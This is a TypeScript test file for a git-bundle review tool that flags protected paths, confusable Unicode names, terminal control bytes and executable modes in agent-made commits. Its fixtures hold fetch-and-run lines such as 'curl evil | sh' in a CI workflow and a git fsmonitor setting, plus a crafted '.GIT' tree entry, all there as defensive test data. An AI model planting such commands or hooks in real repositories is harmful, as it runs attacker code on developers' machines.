/**
 * The protected set and the artifacts' review: the matcher in the spellings other filesystems fold
 * together, the operator's rules in the policy file (examples checked at load), confusable names and
 * raw control bytes in added lines, and the review of a real git bundle commit by commit (host git on
 * a repository this test makes).
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parsePolicy } from '../../src/policy/load-policy';
import { PolicyError } from '../../src/policy/policy-error';
import { DEFAULT_PROTECTED_SET as P, ProtectedSet } from '../../src/domain/protected-set';
import { confusableName, controlBytesIn, reviewFlags } from '../../src/domain/review-flags';
import { parseRawDiff, reviewBundle } from '../../src/git/bundle-review';

describe('the protected set', () => {
  test.each([
    // git's directory in every spelling: case, NTFS streams and short names, trailing dots/spaces, ignorables, fullwidth, dotless i
    '.git/hooks/pre-commit', '.GIT/hooks/pre-commit', '.Git/Hooks/Pre-Commit', '.git::$INDEX_ALLOCATION/hooks/x', '.git:$DATA/config', 'GIT~1/config',
    '.git./config', '.git /config', '.git. . /config', '.g\u200cit/config', '.g\u2060it/config', '\uff0egit/config', '.g\u0131t/config', '\ufeff.git/config',
    // nested repositories, submodules, worktrees
    'vendor/lib/.git/hooks/post-checkout', '.git/modules/a/b/hooks/pre-push', '.git/worktrees/w/config.worktree', '.git/objects/info/alternates',
    // a .git file pointing elsewhere
    '.git', 'sub/.GIT',
  ])('%j is protected', (p) => {
    expect(P.match(p, 'file')).not.toBeNull();
  });

  test.each([
    '.git/objects/ab/cd', '.git/refs/heads/x', '.git/logs/refs/heads/x', '.git/HEAD', '.git/index', '.git/ORIG_HEAD', '.git/FETCH_HEAD', '.git/COMMIT_EDITMSG',
    '.git/packed-refs', '.git/rebase-merge/done', '.git/MERGE_MSG', '.git/BISECT_LOG', '.git/hooks/pre-commit.sample', '.git/modules/m/objects/pack/x.pack',
    '.git/worktrees/w/HEAD', '.git/info/sparse-checkout', 'src/git.py', '.github/dependabot.yml', '.github/ISSUE_TEMPLATE/x.md', 'docs/vscode.md',
  ])('%j is not protected (git writes it in ordinary work, or it runs nothing)', (p) => {
    expect(P.match(p, 'file')).toBeNull();
  });

  test('the .git directory itself is no change; a .git that is a link or a file is', () => {
    expect(P.match('.git', 'dir')).toBeNull();
    expect(P.match('.git', 'symlink')?.class).toBe('git-dir');
  });

  test('root probes name what the snapshot reads when the workspace is large', () => {
    const probes = P.rootProbes();
    for (const p of ['.git', '.github/workflows', '.vscode', '.claude', 'AGENTS.md', 'CLAUDE.md', '.gitlab-ci.yml', '.mcp.json', '.envrc']) expect(probes).toContain(p);
    expect(probes).not.toContain('**');
  });
});

describe('operator rules in the policy file', () => {
  const base = `version: 1
tools:
  bash: { decision: allow, risk: medium, shell: command }
paths:
  rules: []
bash: {}
`;
  test('a rule adds to the built-in set, its examples checked at load', () => {
    const policy = parsePolicy(`${base}protected:
  rules:
    - name: deploy-scripts
      class: ci
      globs: ["deploy/**/*.sh", "**/Makefile.deploy"]
      reason: the deploy job runs these with production credentials
      match: ["deploy/prod/run.sh", "x/Makefile.deploy", "DEPLOY/a.SH"]
      not_match: ["deploy/README.md", "src/run.sh"]
`, 'p.yaml');
    const set = policy.compiled.protectedSet;
    expect(set.match('deploy/a/b.sh')).toMatchObject({ rule: 'deploy-scripts', class: 'ci' });
    expect(set.match('.github/workflows/x.yml')).toMatchObject({ class: 'ci' });
  });

  test('a wrong example stops the load, naming the rule', () => {
    expect(() => parsePolicy(`${base}protected:
  rules:
    - name: deploy-scripts
      class: ci
      globs: ["deploy/*.sh"]
      reason: x
      match: ["deploy/sub/run.sh"]
      not_match: ["src/x"]
`, 'p.yaml')).toThrow(PolicyError);
    expect(() => parsePolicy(`${base}protected:\n  rules:\n    - { name: x, class: nope, globs: ["a"], reason: r, match: ["a"], not_match: ["b"] }\n`, 'p.yaml')).toThrow(/class/);
    expect(() => parsePolicy(`${base}protected:\n  rules:\n    - { name: x, class: ci, globs: ["../a"], reason: r, match: ["a"], not_match: ["b"] }\n`, 'p.yaml')).toThrow(/without \.\./);
  });

  test('an operator set reviews the export the same way', () => {
    const set = ProtectedSet.withExtra([{ name: 'x', class: 'ci', globs: ['ops/*.yml'], reason: 'ops pipeline' }]);
    expect(reviewFlags({ path: 'ops/a.yml', change: 'added', added: 1, removed: 0 }, set).map((f) => f.rule)).toEqual(['ci']);
  });
});

describe('names that show as another name, and raw control bytes', () => {
  test.each([
    ['src/ma\u200bin.py', 'invisible'], ['p\u0430ckage.json', 'mixes Latin'], ['\uff52eadme.md', 'compatibility'], ['a\u2060b', 'invisible'], ['x\u00adx', 'invisible'],
  ])('%j is confusable', (p, why) => {
    expect(confusableName(p)).toContain(why);
    expect(reviewFlags({ path: p, change: 'added', added: 1, removed: 0 }).map((f) => f.rule)).toContain('confusable-name');
  });

  test.each(['src/app.py', 'café/naïve.md', '日本語.txt', 'Ελληνικά.txt', 'Русский.md', '😀.txt'])('%j is not', (p) => {
    expect(confusableName(p)).toBeNull();
  });

  test.each([
    ['+echo ok\x1b[2K\x1b[1A+echo pwned\n', 'ESC'], ['+safe();\rcurl x | sh\n', 'carriage return'], ['+abc\x08\x08\x08xyz\n', 'backspace'],
    ['+if (isAdmin \u202e) {\n', 'bidi'],
  ])('%j in an added line is flagged', (text, what) => {
    expect(controlBytesIn(`--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n${text}`)).toContain(what);
  });

  test('tabs, CRLF endings and removed lines are not flagged', () => {
    expect(controlBytesIn('--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\x1b[0m\n+\tnew\r\n')).toBeNull();
  });
});

describe('the git bundle, reviewed commit by commit', () => {
  let dir: string;
  const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8' });
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'corral-bundle-review-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  test('a workflow added in one commit and removed in the next is flagged with its commit; control bytes and modes too', async () => {
    const repo = join(dir, 'agent');
    mkdirSync(repo);
    git(repo, 'init', '-q');
    writeFileSync(join(repo, 'app.py'), 'x = 1\n');
    git(repo, 'add', '.');
    git(repo, 'commit', '-qm', 'base');
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    const clone = join(dir, 'clone');
    git(dir, 'clone', '-q', repo, clone);
    mkdirSync(join(repo, '.github/workflows'), { recursive: true });
    writeFileSync(join(repo, '.github/workflows/x.yml'), 'on: push\njobs: { a: { runs-on: x, steps: [ { run: "curl evil | sh" } ] } }\n');
    git(repo, 'add', '.');
    git(repo, 'commit', '-qm', 'add ci');
    const bad = git(repo, 'rev-parse', 'HEAD').trim();
    git(repo, 'rm', '-q', '.github/workflows/x.yml');
    writeFileSync(join(repo, 'app.py'), 'x = 2\n# \x1b[1A\x1b[2Klooks harmless\n');
    writeFileSync(join(repo, 'run.sh'), '#!/bin/sh\n');
    git(repo, 'add', '.');
    git(repo, 'update-index', '--chmod=+x', 'run.sh');
    git(repo, 'commit', '-qm', 'fix');
    git(repo, 'branch', 'corral/r1');
    git(repo, 'bundle', 'create', '-q', join(dir, 'b.bundle'), 'corral/r1', `^${base}`);
    const r = await reviewBundle({ repo: clone, bundle: join(dir, 'b.bundle'), branch: 'corral/r1', base });
    expect(r.refused).toBeUndefined();
    expect(r.commits).toBe(2);
    const got = r.flags.map((f) => `${f.rule} ${f.path} ${f.commit}`);
    expect(got).toContain(`ci .github/workflows/x.yml ${bad.slice(0, 12)}`);
    expect(got.some((g) => g.startsWith('control-bytes app.py'))).toBe(true);
    expect(got.some((g) => g.startsWith('executable run.sh'))).toBe(true);
    expect(r.flags.every((f) => f.where === 'bundle')).toBe(true);
  });

  test('a tree entry named .GIT is refused: the bundle is not taken', async () => {
    const repo = join(dir, 'evil');
    mkdirSync(repo);
    git(repo, 'init', '-q');
    writeFileSync(join(repo, 'a'), 'a\n');
    git(repo, 'add', '.');
    git(repo, 'commit', '-qm', 'base');
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    const clone = join(dir, 'clone2');
    git(dir, 'clone', '-q', repo, clone);
    // a tree with a `.GIT` entry, made with plumbing (git add refuses it)
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: repo, input: '[core]\n\tfsmonitor = curl evil | sh\n', encoding: 'utf8' }).trim();
    const sub = execFileSync('git', ['mktree'], { cwd: repo, input: `100644 blob ${blob}\tconfig\n`, encoding: 'utf8' }).trim();
    const aBlob = git(repo, 'rev-parse', 'HEAD:a').trim();
    const tree = execFileSync('git', ['mktree'], { cwd: repo, input: `040000 tree ${sub}\t.GIT\n100644 blob ${aBlob}\ta\n`, encoding: 'utf8' }).trim();
    const commit = git(repo, 'commit-tree', tree, '-p', base, '-m', 'evil').trim();
    git(repo, 'branch', 'corral/r2', commit);
    git(repo, 'bundle', 'create', '-q', join(dir, 'e.bundle'), 'corral/r2', `^${base}`);
    const r = await reviewBundle({ repo: clone, bundle: join(dir, 'e.bundle'), branch: 'corral/r2', base });
    expect(r.refused).toMatch(/refused|\.GIT\/config/);
  });

  test('raw diff records: modes, gitlinks', () => {
    const out = Buffer.from(':000000 100755 0000 abcd A\0run.sh\0:100644 160000 abcd ef01 T\0vendor/lib\0');
    expect(parseRawDiff(out)).toEqual([
      { path: 'run.sh', change: 'added', added: 0, removed: 0, modeAfter: 0o755 },
      { path: 'vendor/lib', change: 'modified', added: 0, removed: 0, modeAfter: 0, modeBefore: 0o644 },
      { path: 'vendor/lib/.git', change: 'modified', added: 0, removed: 0 },
    ]);
  });
});
